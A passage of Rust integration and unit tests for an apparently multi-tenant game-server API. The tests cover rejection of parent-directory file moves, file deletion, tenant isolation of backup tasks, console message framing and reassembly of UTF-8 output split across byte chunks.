                .post(app.url(&format!("/servers/{id}/files/move")))
                .json(&serde_json::json!({ "files": ["ops.json"], "destination": ".." }))
                .send()
                .await
                .unwrap(),
        ] {
            assert_eq!(resp.status(), 400);
            let body: serde_json::Value = resp.json().await.unwrap();
            assert_eq!(body["code"], "invalid_path");
        }

        let resp = app
            .client
            .post(app.url(&format!("/servers/{id}/files/delete")))
            .json(&serde_json::json!({ "files": ["ops.json"] }))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.json::<serde_json::Value>().await.unwrap()["affected"], 1);
        let layout = app.dir.layout(&TenantId::from(id.as_str())).unwrap();
        assert!(!layout.root().join("ops.json").exists());
        assert!(layout.record_path().exists());
    }

    #[tokio::test]
    async fn tasks_are_private_to_their_tenant() {
        let app = spawn_app().await;
        let a = app.create().await;
        let b = app.create().await;

        let resp = app
            .client
            .post(app.url(&format!("/servers/{a}/backups")))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 202);
        let task_id = resp.json::<serde_json::Value>().await.unwrap()["task_id"]
            .as_str()
            .unwrap()
            .to_string();
        assert_eq!(app.wait_task(&a, &task_id).await["status"], "completed");

        let resp = app
            .client
            .get(app.url(&format!("/servers/{b}/tasks/{task_id}")))
            .send()
            .await
            .unwrap();
        assert_eq!(resp.status(), 404);

        let backups: serde_json::Value = app
            .client
            .get(app.url(&format!("/servers/{a}/backups")))
            .send()
            .await
            .unwrap()
            .json()
            .await
            .unwrap();
        assert_eq!(backups.as_array().unwrap().len(), 1);
    }

    #[test]
    fn console_frames_are_tagged() {
        let out = serde_json::to_value(ConsoleOut::Status { running: true }).unwrap();
        assert_eq!(out, serde_json::json!({ "type": "status", "running": true }));

        let cmd: ConsoleIn =
            serde_json::from_str(r#"{"type":"command","command":"say hi"}"#).unwrap();
        assert!(matches!(cmd, ConsoleIn::Command { command } if command == "say hi"));
        assert!(matches!(
            serde_json::from_str::<ConsoleIn>(r#"{"type":"reboot"}"#).unwrap(),
            ConsoleIn::Unknown
        ));
    }

    fn output(ev: Option<ConsoleOut>) -> String {
        match ev {
            Some(ConsoleOut::Output { data }) => data,
            other => panic!("expected output frame, got {other:?}"),
        }
    }

    #[test]
    fn split_multibyte_output_is_reassembled() {
        let mut carry = Utf8Carry::default();
        let first = output(carry.frame(SessionEvent::Output(vec![b'x', 0xC2])));
        assert_eq!(first, "x");
        assert!(matches!(
            carry.frame(SessionEvent::Status(true)),
            Some(ConsoleOut::Status { running: true })
        ));
        let second = output(carry.frame(SessionEvent::Output(vec![0xA7, b'a'])));
        assert_eq!(format!("{first}{second}"), "x\u{a7}a");

        // A lone lead byte produces no frame until it is completed.
        assert!(carry.frame(SessionEvent::Output(vec![0xE2, 0x82])).is_none());
        assert_eq!(output(carry.frame(SessionEvent::Output(vec![0xAC]))), "\u{20ac}");
    }

    #[test]
    fn invalid_bytes_are_replaced_without_stalling() {
        let mut carry = Utf8Carry::default();
        assert_eq!(carry.push(&[b'a', 0xFF, b'b']), "a\u{fffd}b");
        assert_eq!(carry.push(&[0xF0, 0x9F]), "");
        assert_eq!(carry.flush(), "\u{fffd}");
        assert_eq!(carry.push(b"ok"), "ok");
    }

    #[test]
    fn history_tail_drops_a_cut_leading_character() {
        let mut carry = Utf8Carry::default();
        // Seek landed inside "\u{a7}" (C2 A7); the trailing byte of "\u{20ac}" is still pending.
        assert_eq!(carry.history(&[0xA7, b'a', b'\n', 0xE2, 0x82]), "a\n");
        assert_eq!(carry.push(&[0xAC, b'!']), "\u{20ac}!");
    }
}
